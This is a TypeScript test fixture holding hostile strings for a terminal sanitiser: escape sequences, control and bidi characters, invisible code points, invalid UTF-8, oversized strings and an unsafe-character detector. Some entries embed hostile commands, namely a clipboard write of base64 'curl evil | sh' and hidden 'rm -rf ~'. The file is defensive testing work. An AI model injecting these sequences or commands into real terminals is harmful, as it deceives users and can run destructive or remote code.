// A corpus of hostile text, shared by the sanitiser's unit tests, the end-to-end
// `timeline` tests and the UI tests. Each entry says what an unsafe terminal would do.
// `safe` is what a person must still see after sanitising (exact), where that is fixed.

export interface HostileString {
  name: string;
  text: string;
  /** Exact result of sanitize(text). */
  safe: string;
}

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

export const escapeSequences: HostileString[] = [
  { name: 'CSI clear screen and home', text: `before${ESC}[2J${ESC}[Hafter`, safe: 'beforeafter' },
  { name: 'CSI colours (SGR)', text: `${ESC}[31;1mred${ESC}[0m plain`, safe: 'red plain' },
  { name: 'CSI hide text (SGR 8)', text: `shown${ESC}[8mhidden${ESC}[28m`, safe: 'shownhidden' },
  { name: 'CSI private mode: alternate screen, hide cursor', text: `${ESC}[?1049h${ESC}[?25lx`, safe: 'x' },
  { name: 'CSI cursor position report request (answers on input)', text: `a${ESC}[6nb`, safe: 'ab' },
  { name: 'CSI window title report request (answers on input)', text: `a${ESC}[21tb`, safe: 'ab' },
  { name: 'CSI device attributes request', text: `a${ESC}[cb`, safe: 'ab' },
  { name: 'CSI with intermediate byte (DECSCUSR)', text: `a${ESC}[2 qb`, safe: 'ab' },
  { name: 'CSI erase line then move up (fake output)', text: `real${ESC}[1A${ESC}[2Kfake`, safe: 'realfake' },
  { name: 'OSC window title ended by BEL', text: `${ESC}]0;pwned${BEL}text`, safe: 'text' },
  { name: 'OSC window title ended by ST', text: `${ESC}]2;pwned${ST}text`, safe: 'text' },
  { name: 'OSC window title ended by 8-bit ST', text: `${ESC}]2;pwned\u009ctext`, safe: 'text' },
  {
    name: 'OSC 8 hyperlink hiding its target',
    text: `${ESC}]8;;https://evil.example/${ST}https://good.example/${ESC}]8;;${ST}`,
    safe: 'https://good.example/',
  },
  { name: 'OSC 52 clipboard write', text: `copy${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`, safe: 'copy' },
  { name: 'OSC colour query (answers on input)', text: `a${ESC}]10;?${BEL}b`, safe: 'ab' },
  { name: 'DCS request status string (answers on input)', text: `a${ESC}P$q"p${ST}b`, safe: 'ab' },
  { name: 'APC kitty graphics', text: `a${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}b`, safe: 'ab' },
  { name: 'PM privacy message', text: `a${ESC}^secret${ST}b`, safe: 'ab' },
  { name: 'SOS string', text: `a${ESC}Xstart of string${ST}b`, safe: 'ab' },
  { name: 'RIS full reset', text: `a${ESC}cb`, safe: 'ab' },
  { name: 'DECALN fills the screen with E', text: `a${ESC}#8b`, safe: 'ab' },
  { name: 'designate line-drawing charset', text: `a${ESC}(0lqqk${ESC}(Bb`, safe: 'alqqkb' },
  { name: 'save and restore cursor', text: `a${ESC}7over${ESC}8b`, safe: 'aoverb' },
  { name: 'reverse index', text: `a${ESC}Mb`, safe: 'ab' },
  { name: 'ST on its own', text: `a${ST}b`, safe: 'ab' },
  // Truncated: the sequence is cut off by the end of the text or by a character that cannot belong to it.
  { name: 'lone ESC at the end', text: `text${ESC}`, safe: 'text' },
  { name: 'lone ESC alone', text: ESC, safe: '' },
  { name: 'ESC then a letter outside any sequence', text: `${ESC}é`, safe: 'é' },
  { name: 'CSI cut after its introducer', text: `text${ESC}[`, safe: 'text' },
  { name: 'CSI cut inside its parameters', text: `text${ESC}[31;4`, safe: 'text' },
  { name: 'CSI broken by a newline', text: `a${ESC}[31\nm`, safe: 'a\nm' },
  { name: 'OSC never terminated swallows the rest', text: `kept${ESC}]0;title and everything after`, safe: 'kept' },
  { name: 'DCS never terminated', text: `kept${ESC}Pq#0;2;0;0;0#1`, safe: 'kept' },
  { name: 'OSC ended by a bare ESC', text: `a${ESC}]0;title${ESC}b`, safe: 'a' },
  // Nested: an ESC inside a sequence starts a new one.
  { name: 'OSC inside OSC', text: `${ESC}]0;${ESC}]0;inner${BEL}outer${BEL}text`, safe: 'outertext' },
  { name: 'CSI inside CSI', text: `a${ESC}[${ESC}[31mb`, safe: 'ab' },
  { name: 'double ESC', text: `a${ESC}${ESC}[2Jb`, safe: 'ab' },
  {
    name: 'tmux passthrough wrapping an OSC',
    text: `a${ESC}Ptmux;${ESC}${ESC}]0;pwned${BEL}${ST}b`,
    safe: 'ab',
  },
  { name: 'OSC inside DCS', text: `a${ESC}Pq${ESC}]0;t${BEL}${ST}b`, safe: 'ab' },
  { name: 'CSI broken by OSC', text: `a${ESC}[3${ESC}]0;x${BEL}1mb`, safe: 'a1mb' },
];

export const controlCharacters: HostileString[] = [
  {
    name: 'every C0 control but tab and newline',
    // The separator is not ASCII, so it cannot be taken for the final byte of an escape.
    text: Array.from({ length: 32 }, (_, c) => `${String.fromCharCode(c)}·${c}`).join(''),
    safe: Array.from({ length: 32 }, (_, c) => `${c === 9 || c === 10 ? String.fromCharCode(c) : c === 13 ? '\n' : ''}·${c}`).join(''),
  },
  { name: 'backspaces overwrite what was shown', text: 'safe\b\b\b\bEVIL', safe: 'safeEVIL' },
  { name: 'carriage return overwrites the line', text: 'rm -rf ~\rls -l   ', safe: 'rm -rf ~\nls -l   ' },
  { name: 'CRLF line ends', text: 'one\r\ntwo\r\n', safe: 'one\ntwo\n' },
  { name: 'BEL rings', text: `ding${BEL}${BEL}`, safe: 'ding' },
  { name: 'NUL bytes', text: 'a\u0000b', safe: 'ab' },
  { name: 'form feed and vertical tab', text: 'a\fb\vc', safe: 'abc' },
  { name: 'DEL', text: 'a\u007fb', safe: 'ab' },
  {
    name: 'every 8-bit C1 control',
    text: Array.from({ length: 32 }, (_, i) => `${String.fromCharCode(0x80 + i)}x`).join(''),
    safe: 'x'.repeat(32),
  },
  { name: '8-bit CSI clear screen', text: 'a\u009b2Jb', safe: 'a2Jb' },
  { name: '8-bit OSC title', text: 'a\u009d0;title\u009cb', safe: 'a0;titleb' },
  { name: 'NEL', text: 'a\u0085b', safe: 'ab' },
  { name: 'line and paragraph separators', text: 'a\u2028b\u2029c', safe: 'a\nb\nc' },
];

export const bidiControls: HostileString[] = [
  { name: 'RLO reverses a file name', text: 'invoice\u202egpj.exe', safe: 'invoicegpj.exe' },
  { name: 'LRE RLE PDF LRO RLO', text: '\u202aa\u202bb\u202cc\u202dd\u202ee', safe: 'abcde' },
  { name: 'isolates LRI RLI FSI PDI', text: '\u2066a\u2067b\u2068c\u2069d', safe: 'abcd' },
  {
    name: 'Trojan Source comment',
    text: 'if (isAdmin) { \u202e } \u2066// check later\u2069 \u2066 begin admins only',
    safe: 'if (isAdmin) {  } // check later  begin admins only',
  },
  { name: 'unterminated override at the end of a name', text: 'alice\u202e', safe: 'alice' },
];

export const invalidText: HostileString[] = [
  { name: 'lone high surrogate', text: 'a\ud800b', safe: 'a\ufffdb' },
  { name: 'lone low surrogate', text: 'a\udc00b', safe: 'a\ufffdb' },
  { name: 'emoji cut in half', text: 'x\ud83d', safe: 'x\ufffd' },
  { name: 'surrogates in the wrong order', text: '\ude00\ud83d', safe: '\ufffd\ufffd' },
];

/** Text that must come through unchanged: real writing and emoji, not attacks. */
export const legitimateText: { name: string; text: string }[] = [
  { name: 'family emoji joined by ZWJ', text: '👨‍👩‍👧‍👦' },
  { name: 'rainbow flag (VS16 + ZWJ)', text: '🏳️‍🌈' },
  { name: 'woman technologist with skin tone', text: '👩🏽‍💻' },
  { name: 'keycap', text: '1️⃣ #️⃣' },
  { name: 'kiss with skin tones (the longest RGI sequences)', text: '🧑🏻‍❤️‍💋‍🧑🏼 👩‍❤️‍💋‍👨' },
  { name: 'regional indicator flag', text: '🇩🇪🇯🇵' },
  { name: 'emoji tag sequence (Scotland)', text: '🏴󠁧󠁢󠁳󠁣󠁴󠁿' },
  { name: 'Arabic with RLM and ALM', text: 'مرحبا\u200f بالعالم\u061c 123' },
  { name: 'Hebrew with points and cantillation', text: 'בְּרֵאשִׁ֖ית בָּרָ֣א' },
  { name: 'Vietnamese, decomposed', text: 'Vie\u0323\u0302t Nam' },
  { name: 'Devanagari', text: 'नमस्ते दुनिया, स्त्री' },
  { name: 'Persian with ZWNJ', text: 'می\u200cخواهم' },
  { name: 'tallest Tibetan stack', text: 'ཧྐྵྨླྺྼྻྂ' },
  { name: 'five-consonant Sanskrit conjunct, Bengali conjunct', text: 'र्त्स्न्य ক্ষ্ম্য' },
  { name: 'old Hangul with three leading jamo', text: 'ᄀᄀᄀ한' },
  { name: 'CJK', text: '你好，世界。こんにちは 안녕하세요' },
  { name: 'tabs and newlines', text: 'a\tb\nc\n\n' },
  { name: 'plain ASCII with every printable', text: Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i)).join('') },
];

/**
 * Invisible code points (issue #16 item 8): default-ignorable characters that take no column,
 * Unicode tag characters that spell hidden ASCII, variation selectors carrying a payload, and
 * marks with no base. Each must come out without the invisible part and measured as Ink draws it.
 */
export const invisibleText: { name: string; text: string }[] = [
  { name: 'six LRM', text: `${'\u200e'.repeat(6)}ONLY IF APPROVED` },
  { name: 'six RLM', text: `${'\u200f'.repeat(6)}ONLY IF APPROVED` },
  { name: 'six ZWSP', text: `${'\u200b'.repeat(6)}ONLY IF APPROVED` },
  { name: 'six word joiners', text: `${'\u2060'.repeat(6)}ONLY IF APPROVED` },
  { name: 'six soft hyphens', text: `${'\u00ad'.repeat(6)}ONLY IF APPROVED` },
  { name: 'ZWNJ and ZWJ alone', text: '\u200c\u200d\u200c\u200dtext \u200d\u200c' },
  { name: 'BOM and invisible operators', text: '\ufeffa\u2061\u2062\u2063\u2064b' },
  { name: 'Hangul fillers as a blank name', text: '\u3164\u3164\uffa0\u115f\u1160' },
  { name: 'Mongolian vowel separator, CGJ, Khmer inherent vowels', text: 'a\u180eb\u034fc\u17b4\u17b5d' },
  { name: 'musical and shorthand format controls', text: 'a\u{1d173}\u{1d17a}b\u{1bca0}c' },
  { name: 'hidden ASCII in tag characters', text: `ok${[...'rm -rf ~'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('')}` },
  { name: 'variation-selector payload after an emoji', text: `😀${'\ufe01\ufe02\u{e0100}'.repeat(20)}` },
  { name: 'marks with no base', text: '\u0301\u0302top\n\u20ddnext' },
  { name: 'deprecated format characters', text: 'a\u206a\u206b\u206c\u206d\u206e\u206fb' },
];

/** Strings that are hostile by size: the terminal survives them, layout must bound them. */
export const hugeText = {
  longWord: 'A'.repeat(100_000),
  longLine: Array.from({ length: 20_000 }, (_, i) => `word${i}`).join(' '),
  wideWord: '界'.repeat(20_000),
  zalgo: `Z${'\u0301'.repeat(10_000)}algo`,
  zalgoSpacingMarks: `a${'\u0903'.repeat(10_000)}`,
  zalgoInterleaved: `a${'\u0301\u200b'.repeat(5_000)}`,
  manyLines: 'line\n'.repeat(10_000),
  emojiChain: Array(50).fill('👩').join('\u200d'),
  skinTones: `👩${'🏽'.repeat(50)}`,
  conjunctChain: `${'क्'.repeat(1_000)}क`,
  jamoRun: '\u1100'.repeat(1_000),
};

/** Every hostile string with a fixed sanitised form. */
export const hostileStrings: HostileString[] = [
  ...escapeSequences,
  ...controlCharacters,
  ...bidiControls,
  ...invalidText,
];

/** Invalid UTF-8 as a relay might send it; decoded, each must become U+FFFD, never a control. */
export const invalidUtf8: { name: string; bytes: number[] }[] = [
  { name: 'bytes that never appear in UTF-8', bytes: [0x61, 0xff, 0xfe, 0x62] },
  { name: 'overlong slash', bytes: [0xc0, 0xaf] },
  { name: 'overlong ESC', bytes: [0xc0, 0x9b] },
  { name: 'truncated three-byte sequence', bytes: [0xe2, 0x82] },
  { name: 'encoded surrogate', bytes: [0xed, 0xa0, 0x80] },
  { name: 'bare continuation byte that is C1 CSI in Latin-1', bytes: [0x9b, 0x32, 0x4a] },
  { name: 'code point above U+10FFFF', bytes: [0xf4, 0x90, 0x80, 0x80] },
  { name: 'valid UTF-8 for U+009B (8-bit CSI)', bytes: [0xc2, 0x9b, 0x32, 0x4a] },
];

/**
 * Code points that must never reach a terminal from the network, as found in `text`
 * (an empty array means safe). ESC, C0 but \t and \n, DEL, C1, bidi controls, lone surrogates.
 */
export function unsafeCharacters(text: string): string[] {
  const found = text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/gu);
  return (found ?? []).map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`);
}

/** Bytes a terminal would act on, found in raw output (which must also be valid UTF-8). */
export function unsafeBytes(output: Uint8Array): string[] {
  let text: string;
  try {
    text = new TextDecoder('utf-8', { fatal: true }).decode(output);
  } catch {
    return ['invalid UTF-8'];
  }
  return unsafeCharacters(text);
}
